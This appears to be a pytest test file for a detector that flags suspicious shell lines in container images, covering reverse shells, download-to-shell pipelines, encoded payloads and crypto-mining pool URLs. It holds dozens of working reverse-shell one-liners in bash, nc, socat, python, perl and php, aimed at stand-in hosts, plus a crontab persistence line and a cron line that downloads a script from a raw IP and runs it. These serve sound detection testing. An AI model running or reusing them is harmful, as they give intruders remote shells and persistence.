"""Lines that open a shell to somebody else or run what they download; and those that only look like it."""

from __future__ import annotations

import base64

import pytest

from imagespec.analyzers.indicators.lines import find_lines, has_markers

REVERSE_SHELLS = [
    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
    "nohup bash -c 'bash -i >& /dev/tcp/$HOST/443 0>&1' &",
    "sh -i 5<> /dev/tcp/10.0.0.1/4242 0<&5 1>&5 2>&5",
    "/bin/bash -l -i > /dev/udp/evil.example/53 0<& 1",
    "bash >& /dev/tcp/10.0.0.1/1 0>&1",
    "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
    "exec 5<>/dev/tcp/10.0.0.1/4242\ncat <&5 | while read line; do $line 2>&5 >&5; done",
    "nc -e /bin/sh 10.0.0.1 4242",
    "nc 10.0.0.1 4242 -e /bin/bash",
    "busybox nc -nve /bin/sh 10.0.0.1 1234",
    "ncat --exec /bin/bash evil.example 443",
    "nc -lvp 4444 -e /bin/sh",
    "while true; do nc -c bash 10.0.0.1 4242; sleep 9; done",
    "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
    "mknod /tmp/p p && nc 10.0.0.1 4242 0</tmp/p | /bin/bash 1>/tmp/p",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4242 > /tmp/s",
    "telnet 10.0.0.1 8080 | /bin/sh | telnet 10.0.0.1 25",
    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:10.0.0.1:4242",
    (
        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        's.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(["/bin/sh","-i"])\''
    ),
    'python -c \'import socket,os,pty;s=socket.socket();s.connect(("h",1));[os.dup2(s.fileno(),f) for f in(0,1)];pty.spawn("sh")\'',
    (
        'perl -e \'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,6);if(connect(S,sockaddr_in(1,inet_aton($i))))'
        '{open(STDIN,">&S");exec("/bin/sh -i");};\''
    ),
    'php -r \'$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    'echo "* * * * * root bash -i >& /dev/tcp/10.0.0.1/9 0>&1" >> /etc/crontab',
    "bash -i >& \\\n  /dev/tcp/10.0.0.1/4242 0>&1",
    "# a comment ends here \\\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
]


@pytest.mark.parametrize("text", REVERSE_SHELLS)
def test_reverse_shell(text: str) -> None:
    assert has_markers(text.encode())
    assert {(hit.kind, hit.strength) for hit in find_lines(text, is_shell=True)} == {
        ("reverse-shell", "high")
    }
    assert {(hit.kind, hit.strength) for hit in find_lines(text, is_shell=False)} == {
        ("reverse-shell", "high")
    }


@pytest.mark.parametrize(
    "text",
    [
        "# bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "sleep 1  # bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        "until (echo > /dev/tcp/$DB_HOST/5432) >/dev/null 2>&1; do sleep 1; done",
        "timeout 1 bash -c '</dev/tcp/localhost/8080' || exit 1",
        "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/127.0.0.1/22'",
        'exec 3<>/dev/tcp/127.0.0.1/8080; printf "GET / HTTP/1.0\\r\\n\\r\\n" >&3; grep OK <&3',
        "exec 3<>/dev/tcp/127.0.0.1/8080\nbash check.sh 2>&1\nread line <&3",
        "nc -z localhost 5432",
        "while ! nc -w 1 db 3306; do sleep 1; done",
        "nc -l -p 8080 -e /app/answer.sh",
        "ncat -l 8080 --sh-exec 'echo ok'",
        "docker run --rm -it image bash -i",
        "cat report.txt | nc graphite 2003",
        "mkfifo /tmp/log; cat /tmp/log | tee /dev/stdout",
        "python -c 'import socket; s=socket.create_connection((\"db\", 5432))'",
        "curl -fsSL https://example.com/key.asc | gpg --dearmor -o /usr/share/keyrings/x.gpg",
        "curl -s https://example.com/a.tgz | tar xz -C /opt",
        "curl -s https://example.com/list | sudo tee /etc/apt/sources.list.d/x.list",
        "curl http://localhost/health | bash check.sh",
        "echo 'install it with: curl https://example.com/i.sh | sh'",
        "echo aGVsbG8= | base64 -d > /etc/secret",
        "base64 model.bin | sh run.sh",
        "grep -q 'stratum+tcp://' access.log && alert",
        "openssl enc -d -in x | sh",
        "apt-get install -y curl wget netcat socat telnet",
    ],
)
def test_innocent_lines(text: str) -> None:
    assert list(find_lines(text, is_shell=True)) == []


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    ("text", "kind", "strength"),
    [
        ("curl -fsSL https://deb.nodesource.com/setup_18.x | bash -", "download-to-shell", "low"),
        ("curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y", "download-to-shell", "low"),
        ("wget -qO- https://example.com/i.sh | sudo -E bash", "download-to-shell", "low"),
        ("curl https://example.com/i.sh |\n  bash", "download-to-shell", "low"),
        ("bash -c 'curl https://example.com/i.sh | sh'", "download-to-shell", "low"),
        ('sh -c "$(curl -fsSL https://example.com/i.sh)"', "download-to-shell", "low"),
        ("bash <(curl -s https://example.com/i.sh)", "download-to-shell", "low"),
        ("curl http://10.1.2.3/i.sh | sh", "download-to-shell", "low"),  # inside a network: ordinary
        ("curl http://100.125.0.9/i.sh | sh", "download-to-shell", "low"),
        ("curl http://203.0.113.9/i.sh | sh", "download-to-shell", "low"),  # documentation
        (
            "*/5 * * * * wget -q -O - http://45.9.148.35/unk.sh | sh > /dev/null 2>&1",
            "download-from-address",
            "high",
        ),
        (
            "(curl -s 45.9.148.35/a || wget -q -O - http://45.9.148.35/a)|bash",
            "download-from-address",
            "high",
        ),
        ("curl https://example.com/x | base64 -d | bash", "download-to-shell", "high"),
        (
            "echo " + encoded("apt-get update && apt-get -y upgrade") + " | base64 -d | sh",
            "encoded-to-shell",
            "low",
        ),
        ("echo " + encoded(REVERSE_SHELLS[0]) + " | base64 --decode | bash", "encoded-to-shell", "high"),
        ("./run -o stratum+tcp://pool.example.com:3333 -u wallet", "mining-pool", "high"),
        ('{"url": "stratum+ssl://pool.example.com:443"}', "mining-pool", "high"),
        ("nc -l -p 80 -e /bin/sh answer.sh", "reverse-shell", "low"),
        ("socat tcp-listen:9,fork exec:/bin/sh", "reverse-shell", "low"),
        ("nc builds 99 | sh", "reverse-shell", "low"),
    ],
)
def test_graded_lines(text: str, kind: str, strength: str) -> None:
    assert has_markers(text.encode())
    assert {(hit.kind, hit.strength.value) for hit in find_lines(text, is_shell=True)} == {(kind, strength)}


def test_messages_of_other_languages_are_no_commands() -> None:
    assert list(find_lines("print('curl https://example.com | sh')", is_shell=False)) == []


@pytest.mark.parametrize(
    "unit",
    ["nc ", "|", "sh -a ", "bash -i ", "'", '"\\"', "curl x|sh|", "5<>/dev/tcp/", ">& /dev/tcp/a", "sh -sh", "A=b ", "#",
     " #", "A", "stratum+", "http://a@", "do $a ", "eval ", "<", "base64 -d|", "\\\n", "|\n", "\t", "1.", "cat <f >f|nc|sh|"],
)  # fmt: skip
def test_repeated_words_end(unit: str) -> None:
    """A pattern that backtracks more than linearly would not come back from a million characters."""
    text = "curl /dev/tcp/a/1 5<>/dev/tcp/b/2 " + unit * (1_000_000 // len(unit))
    assert all(hit.strength for hit in find_lines(text, is_shell=True))
